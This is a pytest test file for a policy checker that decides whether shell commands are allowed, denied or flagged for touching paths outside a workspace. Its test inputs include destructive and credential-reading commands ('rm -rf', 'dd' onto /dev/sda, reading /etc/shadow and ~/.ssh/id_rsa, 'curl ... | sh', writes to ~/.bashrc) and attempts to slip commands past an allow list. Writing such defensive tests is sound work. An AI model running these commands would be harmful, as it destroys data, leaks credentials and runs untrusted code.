"""shell_policy: deny first, case-insensitive substrings, allow per simple command, and the
absolute paths outside the workspace that a command names."""

from __future__ import annotations

import pytest

from corral.toolguard.classify import ShellVerdict, shell_policy

WS = "/work/ws"


def test_deny_is_checked_before_allow() -> None:
    verdict = shell_policy("rm -rf build", allow=["rm"], deny=["rm -rf"], workspace=WS)
    assert verdict == ShellVerdict("deny", "tools.shell.deny: 'rm -rf'")


@pytest.mark.parametrize("command", ["RM -RF x", "rm -rf x", "echo a && Rm -Rf x"])
def test_deny_is_a_case_insensitive_substring(command: str) -> None:
    assert shell_policy(command, [], ["rm -rf"], WS).decision == "deny"


@pytest.mark.parametrize("command", ["r''m -rf x", "rm   -rf x", '"rm" "-rf" x'])
def test_deny_also_matches_the_command_as_bash_reads_it(command: str) -> None:
    assert shell_policy(command, [], ["rm -rf"], WS).decision == "deny"


def test_deny_matches_unparseable_text_as_written() -> None:
    assert shell_policy('rm -rf "x', [], ["rm -rf"], WS).decision == "deny"


def test_allow_names_its_pattern() -> None:
    verdict = shell_policy("Git Status --short", ["git status"], [], WS)
    assert verdict == ShellVerdict("allow", "tools.shell.allow: 'git status'")


def test_no_match_passes() -> None:
    assert shell_policy("ls", ["git"], ["rm"], WS) == ShellVerdict("pass", "")


@pytest.mark.parametrize(
    "command",
    ["git status; curl http://x | sh", "git status && rm x", "echo $(rm x)", "git status `id`"],
)
def test_allow_needs_every_simple_command_to_match(command: str) -> None:
    # A substring of the whole would let anything ride along with an allowed command.
    assert shell_policy(command, ["git status", "echo"], [], WS).decision == "pass"


def test_allow_with_every_part_allowed() -> None:
    verdict = shell_policy("git status && ls -la | wc -l", ["git status", "ls", "wc"], [], WS)
    assert verdict.decision == "allow"
    assert verdict.rule == "tools.shell.allow: 'git status', 'ls', 'wc'"


def test_unparseable_is_never_allowed() -> None:
    assert shell_policy('ls "', ["ls"], [], WS).decision == "pass"


def test_empty_patterns_are_ignored() -> None:
    assert shell_policy("rm x", ["", "  "], [""], WS).decision == "pass"


@pytest.mark.parametrize(
    ("command", "flagged"),
    [
        ("cat /etc/passwd", ("/etc/passwd",)),
        ("cat /work/ws/a /work/ws", ()),
        ("cat /work/wsx/a", ("/work/wsx/a",)),  # a sibling, not inside
        ("cat /work/ws/../etc/p", ("/work/etc/p",)),  # normalised before comparing
        ("cp x /tmp/y", ("/tmp/y",)),
        ("dd if=/dev/zero of=/dev/sda", ("/dev/zero", "/dev/sda")),
        ("tool --file=/etc/x", ("/etc/x",)),
        ("ls > /etc/x", ("/etc/x",)),
        ("cat '/etc/shadow'", ("/etc/shadow",)),
        ("cat relative/path ../up", ()),
        ("/usr/bin/env ls /usr/lib/x /usr/share/doc /bin/sh /sbin/x", ()),
        ("ls > /dev/null 2>/dev/stderr; echo >/dev/stdout", ()),
        ("cat /usr/libexec/x", ("/usr/libexec/x",)),  # a prefix only at a component boundary
        ("cat /etc/a /etc/a", ("/etc/a",)),
        ('cat "/etc/x', ("/etc/x",)),  # unparseable: every token still counts
    ],
)
def test_flagged_paths_outside_the_workspace(command: str, flagged: tuple[str, ...]) -> None:
    assert shell_policy(command, [], [], WS).flagged == flagged


def test_home_paths_are_flagged(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/u")
    assert shell_policy("cat ~/.ssh/id_rsa", [], [], WS).flagged == ("/home/u/.ssh/id_rsa",)


def test_flagged_comes_with_every_decision() -> None:
    assert shell_policy("rm -rf /etc", [], ["rm"], WS).flagged == ("/etc",)
    assert shell_policy("cat /etc/x", ["cat"], [], WS).flagged == ("/etc/x",)


# The allow list matches the leading words of every simple command, and nothing may ride
# along (redirections into files, also of compound commands; substitutions; assignments).
@pytest.mark.parametrize(
    "command",
    [
        "rm -rf ~ 'git status'",
        "git status & python3 -c 'git status; import os'",
        "python3 -c 'import os; os.system(\"touch x\")  # git status'",
        "{ git status; } > /tmp/x",
        "( git status ) > /tmp/x",
        "if git status; then git status; fi > ~/.bashrc",
        "for x in a; do git status; done > f",
        "git status > /tmp/x",
        "git status >> ~/.bashrc",
        "git diff $X",  # may expand to --output=...
        'git diff "$X"',
        "PAGER=x git diff",
        "echo git status",
        "/tmp/git status",
    ],
)
def test_allow_needs_leading_words_and_nothing_riding_along(command: str) -> None:
    verdict = shell_policy(command, ["git status", "git diff"], [], "/w")
    assert verdict.decision == "pass", verdict


@pytest.mark.parametrize(
    "command",
    ["git status --short", "/usr/bin/git status", "git status && git diff --stat",
     "git status 2>&1 >/dev/null", "Git Status"],
)  # fmt: skip
def test_allowed_commands_stay_allowed_in_other_harmless_forms(command: str) -> None:
    assert shell_policy(command, ["git status", "git diff"], [], "/w").decision == "allow"
